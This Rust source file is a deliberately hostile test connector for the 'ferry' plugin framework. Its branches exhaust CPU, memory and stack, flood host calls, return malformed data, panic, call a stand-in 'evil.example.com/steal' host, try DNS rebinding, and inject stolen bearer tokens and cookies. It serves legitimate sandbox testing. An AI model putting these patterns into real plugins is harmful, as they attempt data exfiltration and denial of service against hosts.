//! A hostile test connector. It implements the raw generated interface (not
//! the SDK's `Connector`) so it can break the contract too. `list(module)`
//! misbehaves in the way the module names; `list("ok")` behaves, so tests
//! can check the host still serves after each failure.

use std::hint::black_box;

use ferry_plugin_sdk::bindings::exports::ferry::connector::connector::{
    DeletedPage, Guest, Json, Page, WriteResult,
};
use ferry_plugin_sdk::prelude::*;

struct Hostile;

/// Recursion whose frames live on the wasm stack (no address-taken
/// locals), so it is the engine's stack limit that stops it.
fn recurse(n: u64, a: u64, b: u64) -> u64 {
    // An indirect call keeps the optimiser from turning this into a loop.
    let next: fn(u64, u64, u64) -> u64 = black_box(recurse);
    if n == u64::MAX {
        a ^ b
    } else {
        next(n + 1, b.wrapping_mul(31), a.rotate_left(7)).wrapping_add(n)
    }
}

fn no<T>() -> Result<T, ConnectorError> {
    Err(ConnectorError::unsupported("hostile plugin"))
}

fn sent(r: Result<Response, ConnectorError>) -> Result<Page, ConnectorError> {
    r.map(|_| Page {
        records: vec![],
        next_cursor: None,
    })
}

impl Guest for Hostile {
    fn describe(_settings: Json) -> Result<ConnectorInfo, ConnectorError> {
        Ok(
            ConnectorInfo::new("hostile", "0.0.0", "Misbehaves on purpose")
                .module(ModuleInfo::new("ok", "id").operations(&[Operation::Read])),
        )
    }

    fn configure(_settings: Json) -> Result<(), ConnectorError> {
        Ok(())
    }

    fn check() -> Result<(), ConnectorError> {
        Ok(())
    }

    fn list(
        module: String,
        _since: Option<String>,
        _cursor: Option<String>,
    ) -> Result<Page, ConnectorError> {
        match module.as_str() {
            "ok" => Ok(Page {
                records: vec![r#"{"id":"1"}"#.into()],
                next_cursor: None,
            }),
            "loop" => {
                let mut i: u64 = 0;
                loop {
                    i = black_box(i.wrapping_add(1));
                }
            }
            "memory" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(black_box(vec![1u8; 1 << 20]));
                }
            }
            "recursion" => Ok(Page {
                records: vec![json!({"n": recurse(black_box(0), 1, 2)}).to_string()],
                next_cursor: None,
            }),
            "huge-hostcall" => {
                ferry_plugin_sdk::log::info(&"x".repeat(8 << 20));
                Ok(Page {
                    records: vec![],
                    next_cursor: None,
                })
            }
            "forbidden-host" => sent(Request::get("https://evil.example.com/steal").send()),
            "rebinding" => sent(Request::get("https://rebind.allowed.test/").send()),
            "own-auth" => sent(
                Request::get("/items")
                    .header("Authorization", "Bearer stolen")
                    .send(),
            ),
            "cookie" => sent(Request::get("/items").header("Cookie", "session=1").send()),
            "malformed" => Ok(Page {
                records: vec!["{\"id\": 1,".into()],
                next_cursor: None,
            }),
            "not-object" => Ok(Page {
                records: vec!["[1,2,3]".into()],
                next_cursor: None,
            }),
            "panic" => panic!("the plugin gave up"),
            other => Err(ConnectorError::NotFound(other.to_string())),
        }
    }

    fn get(_module: String, _id: String) -> Result<Json, ConnectorError> {
        no()
    }
    fn find(_module: String, _criteria: Json) -> Result<Vec<Json>, ConnectorError> {
        no()
    }
    fn deleted(
        _module: String,
        _since: Option<String>,
        _cursor: Option<String>,
    ) -> Result<DeletedPage, ConnectorError> {
        no()
    }
    fn create(_module: String, records: Vec<Json>) -> Result<Vec<WriteResult>, ConnectorError> {
        // Breaks "one result per input": always one result too few.
        Ok(records.into_iter().skip(1).map(Ok).collect())
    }
    fn update(_module: String, _records: Vec<Json>) -> Result<Vec<WriteResult>, ConnectorError> {
        no()
    }
    fn delete(_module: String, _ids: Vec<String>) -> Result<Vec<WriteResult>, ConnectorError> {
        no()
    }
    fn act(
        _module: String,
        _id: String,
        _action: String,
        _args: Json,
    ) -> Result<Json, ConnectorError> {
        no()
    }
}

ferry_plugin_sdk::bindings::export_raw!(Hostile with_types_in ferry_plugin_sdk::bindings);
